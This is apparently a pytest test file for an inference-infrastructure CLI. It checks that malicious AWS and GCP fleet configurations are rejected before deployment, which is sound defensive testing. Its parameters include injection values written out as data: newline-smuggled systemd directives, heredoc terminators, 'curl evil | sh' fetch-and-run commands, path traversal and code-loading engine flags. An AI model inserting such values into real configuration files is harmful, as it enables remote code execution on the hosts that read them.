"""The hostile stack files of the #23 review, planned with `inference-infra plan`: every one exits 2 with one
paragraph naming the key, before anything is registered. Newlines, spaces, `%`, `*` and `..` in fleet
names, weight prefixes and manifests; a checkpoint's config.json whose `_name_or_path` carries a unit
directive, a heredoc end or extra engine flags; secret and code-loading engine flags; a production model
store without publishers."""

from __future__ import annotations

import json

import pytest

from inference_infra.components.cli import main

PROGRAM = "import runpy\nrunpy.run_module('inference_infra.infra.__main__', run_name='__main__')\n"
PIN = "ab" * 32
NETWORK = """\
  inference-infra:costCenter: ml
  inference-infra:owner: team@example.com
  inference-infra:awsNetwork:
    vpcId: vpc-0abc
    subnets: [{id: subnet-0a, availabilityZone: us-east-1a}]
  inference-infra:modelStore: {bucketName: acme-models}
"""


def _stack(fleet: dict, extra: str = "") -> str:
    fleets = json.dumps([fleet])
    return f"config:\n  aws:region: us-east-1\n{NETWORK}{extra}  inference-infra:awsGpuFleets: {fleets}\n"


def _fleet(**overrides: object) -> dict:
    fleet = {
        "name": "serving",
        "instanceType": "g6e.xlarge",
        "model": {"name": "llama-3.1-8b", "contextTokens": 4096, "concurrency": 4},
        "onDemand": 1,
        "modelPrefix": "meta-llama/Llama-3.1-8B-Instruct",
        "manifestSha256": PIN,
    }
    return {**fleet, **overrides}


def _plan(pulumi_project, capsys, stack_text: str, stack: str = "dev") -> tuple[int, str]:
    folder = pulumi_project(PROGRAM, {stack: stack_text})
    code = main(["plan", "--stack", stack, "--cwd", str(folder)])
    return code, " ".join(capsys.readouterr().err.split())


def test_plan_accepts_the_reference_fleet(pulumi_project, capsys):
    code, err = _plan(pulumi_project, capsys, _stack(_fleet()))
    assert code in (0, 1), err  # 1: a policy of the gate (this minimal stack is not a full one)
    assert "invalid stack config" not in err


@pytest.mark.parametrize(
    ("overrides", "key"),
    [
        ({"modelPrefix": "meta-llama/*"}, "awsGpuFleets[0].modelPrefix"),  # would grant the whole bucket
        ({"modelPrefix": "models/../other-team"}, "awsGpuFleets[0].modelPrefix"),
        ({"modelPrefix": "llama 8b"}, "awsGpuFleets[0].modelPrefix"),
        ({"modelPrefix": "llama\nExecStartPre=/bin/sh -c id"}, "awsGpuFleets[0].modelPrefix"),
        ({"modelPrefix": "llama%n"}, "awsGpuFleets[0].modelPrefix"),
        ({"manifestSha256": None}, "awsGpuFleets[0].manifestSha256"),
        ({"manifestSha256": "not-a-digest"}, "awsGpuFleets[0].manifestSha256"),
        ({"name": "serving\nx"}, "awsGpuFleets[0].name"),
        ({"name": "a b"}, "awsGpuFleets[0].name"),
        ({"clientCidrBlocks": ["10.0.0.0/8"]}, "awsGpuFleets[0].clientCidrBlocks"),
        ({"apiKey": "sk-the-key-itself"}, "awsGpuFleets[0].apiKey"),
    ],
)
def test_plan_rejects_hostile_fleet_values_with_exit_2(pulumi_project, capsys, overrides, key):
    fleet = {k: v for k, v in _fleet(**overrides).items() if v is not None}
    code, err = _plan(pulumi_project, capsys, _stack(fleet))
    assert code == 2, err
    assert err.startswith("inference-infra: ")
    assert key in err
    assert "Traceback" not in err


@pytest.mark.parametrize(
    ("engine_args", "what"),
    [
        (["--api-key", "sk-123"], "is refused: it puts the API key in clear"),
        (["--trust-remote-code"], "is refused without a reason"),
        (["--tool-parser-plugin", "/models/p.py"], "is refused without a reason"),
        (["--load-format", "pt"], "is refused without a reason"),
        (["--served-model-name", "x"], "is set from the capacity plan"),
    ],
)
def test_plan_rejects_secret_and_code_loading_engine_args(pulumi_project, capsys, engine_args, what):
    model = {"name": "llama-3.1-8b", "contextTokens": 4096, "concurrency": 4, "engineArgs": engine_args}
    code, err = _plan(pulumi_project, capsys, _stack(_fleet(model=model)))
    assert code == 2, err
    assert "awsGpuFleets[0].model.engineArgs" in err
    assert what in err


@pytest.mark.parametrize(
    "name_or_path",
    [
        "llama\nExecStartPre=/bin/sh -c 'curl evil | sh'",  # a systemd directive before the marker check
        "llama\nENGINE_FILE\ncurl evil | sh",  # ends a heredoc in a boot script
        "llama --trust-remote-code",  # an extra vllm flag
        "100%n",  # a systemd specifier
    ],
)
def test_plan_rejects_a_config_json_whose_name_would_reach_a_unit(
    pulumi_project, capsys, tmp_path, name_or_path
):
    config = {
        "_name_or_path": name_or_path,
        "num_hidden_layers": 32,
        "hidden_size": 4096,
        "num_attention_heads": 32,
        "num_key_value_heads": 8,
        "intermediate_size": 14336,
        "vocab_size": 128256,
        "max_position_embeddings": 131072,
    }
    path = tmp_path / "checkpoint" / "config.json"
    path.parent.mkdir()
    path.write_text(json.dumps(config))
    model = {"name": str(path), "contextTokens": 4096, "concurrency": 4}
    code, err = _plan(pulumi_project, capsys, _stack(_fleet(model=model)))
    assert code == 2, err
    assert "inference-infra:awsGpuFleets[0].model = " in err
    assert "(config.json's _name_or_path), which must be 1-3 '/'-separated segments" in err


def test_plan_rejects_a_production_model_store_without_publishers(pulumi_project, capsys):
    code, err = _plan(pulumi_project, capsys, _stack(_fleet()), stack="prod")
    assert code == 2, err
    assert "inference-infra:modelStore.publishers [] must name the IAM roles that publish weights" in err


def test_plan_accepts_a_production_model_store_with_publishers(pulumi_project, capsys):
    publisher = "arn:aws:iam::123456789012:role/pub"
    text = _stack(_fleet()).replace(
        "inference-infra:modelStore: {bucketName: acme-models}",
        f"inference-infra:modelStore: {{bucketName: acme-models, publishers: [{publisher}]}}",
    )
    code, err = _plan(pulumi_project, capsys, text, stack="prod")
    assert code in (0, 1), err  # 1: a production policy may still be unmet; the config itself is accepted
    assert "modelStore.publishers" not in err


# --- the same review on GCP: GPU fleets and TPU slices ------------------------------------------

GCP_BASE = """\
  gcp:project: acme-test
  gcp:region: us-central1
  inference-infra:costCenter: ml
  inference-infra:owner: team@example.com
  inference-infra:gcpModelBucket: acme-models
"""
GCS_URI = "gs://acme-models/llama-3.1-8b-instruct"


def _gcp_stack(key: str, node: dict, extra: str = "") -> str:
    return f"config:\n{GCP_BASE}{extra}  inference-infra:{key}: {json.dumps([node])}\n"


def _gcp_fleet(**overrides: object) -> dict:
    fleet = {
        "name": "l4",
        "machineType": "g2-standard-8",
        "model": {"name": "llama-3.1-8b", "contextTokens": 4096, "concurrency": 4},
        "spot": 1,
        "models": [GCS_URI],
        "manifestSha256": {GCS_URI: PIN},
    }
    return {**fleet, **overrides}


def _tpu(**overrides: object) -> dict:
    tpu = {
        "name": "qwen-tpu",
        "model": {"name": "qwen2.5-7b", "contextTokens": 4096, "concurrency": 8},
        "zone": "us-central1-b",  # the planner picks v6e: Google lists it in -b, not -a
        "spot": 1,
        "models": [GCS_URI],
        "manifestSha256": {GCS_URI: PIN},
    }
    return {**tpu, **overrides}


@pytest.mark.parametrize(("key", "node"), [("gcpGpuFleets", _gcp_fleet()), ("tpuVms", _tpu())])
def test_plan_accepts_the_reference_gcp_nodes(pulumi_project, capsys, key, node):
    code, err = _plan(pulumi_project, capsys, _gcp_stack(key, node))
    assert code in (0, 1), err
    assert "invalid stack config" not in err


def _hostile_uri(uri: str) -> dict:
    return {"models": [uri], "manifestSha256": {uri: PIN}}


GCP_HOSTILE = [
    (_hostile_uri("gs://acme-models/llama 8b"), "models[0]"),  # a space: extra docker run flags
    (_hostile_uri("gs://acme-models/llama\nENGINE_FILE"), "models[0]"),  # a newline: ends a heredoc
    (_hostile_uri("gs://acme-models/llama%n"), "models[0]"),  # a systemd specifier
    (_hostile_uri("gs://acme-models/*"), "models[0]"),  # the whole bucket
    (_hostile_uri("gs://acme-models/team/../other"), "models[0]"),
    ({"manifestSha256": {}}, "manifestSha256"),
    ({"manifestSha256": {GCS_URI: "not-a-digest"}}, "manifestSha256"),
    ({"name": "l4\nx"}, "name"),
    ({"name": "a b"}, "name"),
    ({"apiKeySecret": "key; curl evil | sh"}, "apiKeySecret"),
    ({"apiKeySecret": "projects/p/secrets/../../x"}, "apiKeySecret"),
]


@pytest.mark.parametrize(("key", "make"), [("gcpGpuFleets", _gcp_fleet), ("tpuVms", _tpu)])
@pytest.mark.parametrize(("overrides", "field"), GCP_HOSTILE)
def test_plan_rejects_hostile_gcp_node_values_with_exit_2(
    pulumi_project, capsys, key, make, overrides, field
):
    code, err = _plan(pulumi_project, capsys, _gcp_stack(key, make(**overrides)))
    assert code == 2, err
    assert err.startswith("inference-infra: ")
    assert f"{key}[0].{field}" in err
    assert "Traceback" not in err


@pytest.mark.parametrize(("key", "make"), [("gcpGpuFleets", _gcp_fleet), ("tpuVms", _tpu)])
@pytest.mark.parametrize(
    "name_or_path",
    ["llama\nENGINE_FILE\ncurl evil | sh", "llama\nExecStartPre=/bin/sh -c id", "llama --trust-remote-code"],
)
def test_plan_rejects_a_gcp_config_json_whose_name_would_reach_a_unit(
    pulumi_project, capsys, tmp_path, key, make, name_or_path
):
    config = {
        "_name_or_path": name_or_path,
        "num_hidden_layers": 28,
        "hidden_size": 3584,
        "num_attention_heads": 28,
        "num_key_value_heads": 4,
        "intermediate_size": 18944,
        "vocab_size": 152064,
        "max_position_embeddings": 32768,
    }
    path = tmp_path / "checkpoint" / "config.json"
    path.parent.mkdir()
    path.write_text(json.dumps(config))
    model = {"name": str(path), "contextTokens": 4096, "concurrency": 4}
    code, err = _plan(pulumi_project, capsys, _gcp_stack(key, make(model=model)))
    assert code == 2, err
    assert f"inference-infra:{key}[0].model = " in err
    assert "(config.json's _name_or_path), which must be 1-3 '/'-separated segments" in err


def test_plan_rejects_a_production_gcp_bucket_without_publishers(pulumi_project, capsys):
    code, err = _plan(pulumi_project, capsys, _gcp_stack("gcpGpuFleets", _gcp_fleet()), stack="prod")
    assert code == 2, err
    assert "inference-infra:gcpModelPublishers [] must name who may write" in err


def test_plan_rejects_a_queued_tpu_slice_in_production_with_exit_2(pulumi_project, capsys):
    tpu = {
        "name": "burst",
        "acceleratorType": "v5litepod-8",
        "queued": True,
        "secureBoot": False,
        "acceptDefaultServiceAccount": "burst capacity only; reads no bucket",
    }
    code, err = _plan(pulumi_project, capsys, _gcp_stack("tpuVms", tpu), stack="prod")
    assert code == 2, err
    assert "inference-infra:tpuVms[0].queued True is refused in production" in err
